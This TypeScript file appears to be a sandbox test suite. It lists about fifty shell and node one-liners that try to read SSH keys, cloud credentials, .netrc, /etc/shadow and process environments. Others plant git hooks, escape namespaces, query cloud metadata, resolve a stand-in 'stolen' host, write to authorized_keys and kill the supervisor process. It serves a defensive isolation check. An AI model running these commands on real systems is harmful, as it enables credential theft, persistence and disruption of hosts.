/**
 * Where secrets are planted, and what a hostile program knows of it: everything. Every way is a line of shell that
 * prints what it finds; `finds` names the asset that it does find without a sandbox, so that the attempt is known to be
 * a real one. Null: even the same user gets nothing, or it would disturb this host or read what is not ours to read.
 */
export type Asset =
  | 'environment'
  | 'home'
  | 'ssh'
  | 'cloud'
  | 'journal'
  | 'operator'
  | 'instance'
  | 'neighbour'
  | 'saved'
  | 'mirror'
  | 'keeper'
  | 'tmp'
  | 'shared'
  | 'socket'
  | 'abstract'
  | 'service'

export interface Way {
  readonly name: string
  readonly finds: Asset | null
  readonly script: string
}

const node = (code: string): string => `node -e '${code}'`

const connect = (where: string): string =>
  node(
    `const s=require("net").connect(${where});s.on("data",d=>process.stdout.write(d)).on("error",e=>console.log(e.code));setTimeout(()=>process.exit(),700)`,
  )

const ask = (url: string): string =>
  node(
    `const a=process.env,u=${url};const p=a.HTTP_PROXY;if(!p){console.log("no proxy");process.exit()}const {hostname,port,username,password}=new URL(p);require("http").get({hostname,port,path:u,headers:{"proxy-authorization":"Basic "+Buffer.from(decodeURIComponent(username)+":"+password).toString("base64")}},r=>r.on("data",d=>process.stdout.write(d))).on("error",e=>console.log(e.code));setTimeout(()=>process.exit(),700)`,
  )

/** What it knows, as variables: PERSON, STATE, OTHER, OTHER_TMP, SHARED, VICTIM (a pid), SOCKET, ABSTRACT, PORT, UDP_PORT. */
export const WAYS: readonly Way[] = [
  { name: 'its own environment', finds: null, script: 'env; cat /proc/self/environ; cat /proc/1/environ' },
  { name: 'environment of the supervisor', finds: 'environment', script: 'cat /proc/$VICTIM/environ' },
  { name: 'environment of everybody', finds: null, script: 'cat /proc/[0-9]*/environ' },
  {
    name: 'environment of its parents',
    finds: null,
    script:
      'pid=$$; while [ "$pid" -gt 0 ]; do cat /proc/$pid/environ; pid=$(cut -d" " -f4 /proc/$pid/stat); done',
  },
  { name: 'HOME of the person', finds: 'home', script: 'cat "$PERSON/.netrc" "$PERSON"/.config/*/*' },
  {
    name: 'HOME by its user name',
    finds: null,
    script: 'cat ~root/.netrc ~root/.npmrc ~root/.git-credentials',
  },
  { name: 'ssh key', finds: 'ssh', script: 'cat "$PERSON"/.ssh/id_*' },
  { name: 'cloud credentials', finds: 'cloud', script: 'cat "$PERSON/.aws/credentials"' },
  { name: 'journal', finds: 'journal', script: 'cat "$STATE"/journal.db*' },
  { name: "operator's key", finds: 'operator', script: 'cat "$PERSON/operator_key"' },
  { name: 'instance keys', finds: 'instance', script: 'cat "$STATE"/keys/*' },
  { name: 'another workspace', finds: 'neighbour', script: 'cat "$OTHER"/*' },
  { name: 'saved work', finds: 'saved', script: 'cat "$STATE"/saved.git/*' },
  {
    name: 'mirror',
    finds: 'mirror',
    script: 'cat "$STATE"/mirrors/*/*; git clone "$STATE"/mirrors/app.git stolen',
  },
  { name: "another attempt's keeper", finds: 'keeper', script: 'cat "$STATE"/keepers/*/spec.json' },
  {
    name: 'temporary files of others',
    finds: 'tmp',
    script: 'cat "$OTHER_TMP"/*; timeout 2 cat /tmp/*/* /var/tmp/*',
  },
  { name: 'shared memory of others', finds: 'shared', script: 'cat "$SHARED"; timeout 2 cat /dev/shm/*' },
  {
    name: 'inherited descriptors',
    finds: null,
    script: 'for fd in /proc/self/fd/[3-9]* /proc/$PPID/fd/*; do timeout 1 cat "$fd"; done',
  },
  {
    name: 'descriptors of the supervisor',
    finds: 'journal',
    script: 'for fd in /proc/$VICTIM/fd/*; do case $(readlink "$fd") in *journal*) cat "$fd";; esac; done',
  },
  {
    name: 'memory of the supervisor',
    finds: null,
    script:
      'timeout 2 gdb -p $VICTIM -batch -ex "info proc"; head -c 100 /proc/$VICTIM/mem; cat /proc/$VICTIM/maps',
  },
  {
    name: 'root of other processes',
    finds: 'home',
    script:
      'for pid in 1 $PPID $VICTIM; do cat "/proc/$pid/root$PERSON/.netrc" "/proc/$pid/cwd/.netrc"; done',
  },
  { name: 'unix socket', finds: 'socket', script: connect('process.env.SOCKET') },
  { name: 'abstract socket', finds: 'abstract', script: connect('"\\0"+process.env.ABSTRACT') },
  {
    name: 'sockets of the system',
    finds: null,
    script:
      'ls -la /run /var/run/docker.sock /run/dbus "$SSH_AUTH_SOCK"; timeout 1 systemd-run true; timeout 1 crontab -l',
  },
  {
    name: 'service on loopback',
    finds: 'service',
    script: connect('{port:process.env.PORT,host:"127.0.0.1"}'),
  },
  {
    name: 'service on an address of the host',
    finds: null,
    script: connect('{port:process.env.PORT,host:process.env.ADDRESS}'),
  },
  { name: 'loopback through the proxy', finds: null, script: ask('"http://127.0.0.1:"+a.PORT+"/"') },
  { name: 'loopback through the proxy by name', finds: null, script: ask('"http://localhost:"+a.PORT+"/"') },
  {
    name: 'loopback through the proxy by number',
    finds: null,
    script: ask('"http://2130706433:"+a.PORT+"/"'),
  },
  {
    name: 'loopback through the proxy, version 6',
    finds: null,
    script: ask('"http://[::ffff:127.0.0.1]:"+a.PORT+"/"'),
  },
  { name: 'metadata of the cloud', finds: null, script: ask('"http://169.254.169.254/latest/"') },
  {
    name: 'sending by datagram',
    finds: null,
    script: node(
      'const s=require("dgram").createSocket("udp4");for(const h of ["127.0.0.1",process.env.ADDRESS])s.send("stolen",+process.env.UDP_PORT,h,()=>{});setTimeout(()=>process.exit(),300)',
    ),
  },
  { name: 'names of the outside', finds: null, script: 'timeout 1 getent hosts stolen.example.com' },
  { name: 'link out of the workspace', finds: 'ssh', script: 'ln -s "$PERSON/.ssh" link; cat link/id_*' },
  {
    name: 'link of its folder',
    finds: 'home',
    script: 'ln -s / whole; cat "whole$PERSON/.netrc"; cat ./../../../../../../../../..$PERSON/.netrc',
  },
  { name: 'hard link', finds: 'home', script: 'ln "$PERSON/.netrc" hard; cat hard' },
  {
    name: 'hook of git',
    finds: 'home',
    script: `git init -q .; mkdir -p .git/hooks; printf '#!/bin/sh\\ncat "$PERSON/.netrc"\\n' >.git/hooks/post-commit; chmod +x .git/hooks/post-commit; git -c user.name=x -c user.email=x@localhost commit -q --allow-empty -m x`,
  },
  {
    name: 'configuration of git',
    finds: 'home',
    script: `git init -q .; git config core.fsmonitor 'cat "$PERSON/.netrc" >&2; false'; git config alias.steal '!cat "$PERSON/.netrc"'; git status; git steal`,
  },
  {
    name: 'a namespace of its own',
    finds: null,
    script: `unshare -Urm sh -c 'umount -l /tmp; umount -R /; cat "$PERSON/.netrc"'; nsenter -t 1 -m cat "$PERSON/.netrc"; nsenter -t $VICTIM -a cat "$PERSON/.netrc"`,
  },
  {
    name: 'taking the walls down',
    finds: null,
    script: `umount -l / /tmp /run /root /etc; mount -o remount,rw /; mount --bind / /tmp; chroot /proc/1/root cat "$PERSON/.netrc"; pivot_root . .`,
  },
  {
    name: 'memory of the kernel',
    finds: null,
    script:
      'head -c 4096 /proc/kcore /dev/mem /dev/kmsg; cat /proc/kallsyms | head -1; ls /dev/sd* /dev/vd* /dev/nvme*',
  },
  {
    name: 'a device of its own',
    finds: null,
    script: 'mknod disk b 8 0 && head -c 100 disk; mknod kmem c 1 1 && head -c 100 kmem',
  },
  {
    name: 'password hashes',
    finds: null,
    script: 'cat /etc/shadow /etc/gshadow /etc/sudoers /etc/ssh/ssh_host_*_key',
  },
  {
    name: 'looking everywhere',
    finds: null,
    script: `timeout 20 grep -rIsh CANARY- / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr --exclude-dir=lib --exclude-dir=node_modules --exclude-dir=opt --include='*' 2>/dev/null | grep -v 'grep -rIsh' | head -50`,
  },
  {
    name: 'writing outside',
    finds: null,
    script: `for f in "$PERSON/.bashrc" "$PERSON/.ssh/authorized_keys" "$STATE/journal.db" "$STATE/keys/stolen" "$OTHER/stolen" "$OTHER_TMP/stolen" /etc/profile.d/stolen.sh /usr/local/bin/stolen /dev/shm/stolen "$(dirname "$(command -v node)")/stolen"; do echo STOLEN >>"$f"; done`,
  },
  { name: 'killing the supervisor', finds: null, script: 'kill -9 $VICTIM; kill -9 -$VICTIM' },
  {
    name: 'steering the terminal',
    finds: null,
    script: node(
      'try{require("fs").writeSync(require("fs").openSync("/dev/tty","w"),"x");console.log("wrote")}catch(e){console.log(e.code)}',
    ),
  },
]

/** One program that tries them all at once; what each prints stands under its name. */
export const waysScript = (ways: readonly Way[] = WAYS): string =>
  [
    '#!/bin/sh',
    ...ways.map(
      ({ script }, at) =>
        `mkdir -p tried/${at} && (cd tried/${at} && ${script}\n) </dev/null >tried/${at}.txt 2>&1 &`,
    ),
    'wait',
    ...ways.map(({ name }, at) => `printf '\\n### %s\\n' "${name}"; cat tried/${at}.txt`),
    'exit 0',
  ].join('\n')

/** What the program printed, by way. */
export const byWay = (output: string): Map<string, string> =>
  new Map(
    output
      .split(/^### /m)
      .slice(1)
      .map((part) => [part.slice(0, part.indexOf('\n')), part.slice(part.indexOf('\n') + 1)]),
  )
